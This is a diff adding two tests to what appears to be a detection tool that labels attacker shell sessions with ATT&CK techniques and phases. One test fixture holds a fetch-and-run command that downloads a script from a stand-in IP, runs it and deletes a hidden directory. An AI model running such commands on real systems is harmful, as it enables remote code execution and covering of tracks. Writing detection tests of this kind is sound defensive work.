@@ -172,6 +172,20 @@ def test_what_is_sent_out_is_not_told_as_fetched(tagger: OfflineTagger) -> None:
         assert "fetch" not in story.line
 
 
+def test_a_tag_whose_text_is_written_otherwise_stands_at_its_program(tagger: OfflineTagger) -> None:
+    record = session(["cd /tmp; rm -rf .k; wget http://203.0.113.9/k.sh; sh k.sh"])
+    marks = {"s#cmd0": [Mark("T1070.004", "TA0005", "rm -rf /tmp/.k")]}
+    story = story_of(moves_of(record, events_of(record), marks))
+    assert story.line == glyphs("clean > fetch+run k.sh")
+
+
+def test_a_write_probe_prepares_and_is_no_look_between(tagger: OfflineTagger) -> None:
+    lines = ["uname -a", "echo 77 > /var/tmp/.p", "rm -f /var/tmp/.p"]
+    story = told(tagger, lines)
+    assert [phase["phase"] for phase in story.phases] == ["recon", "deliver", "clean"]
+    assert "T1083" in story.phases[1]["techniques"]
+
+
 def test_the_use_of_a_shell_alone_runs_nothing(tagger: OfflineTagger) -> None:
     for lines in (["/ip cloud print"], ["enable", "system", "shell", "sh"], ["sh -c 'uname -a'"]):
         story = told(tagger, lines)
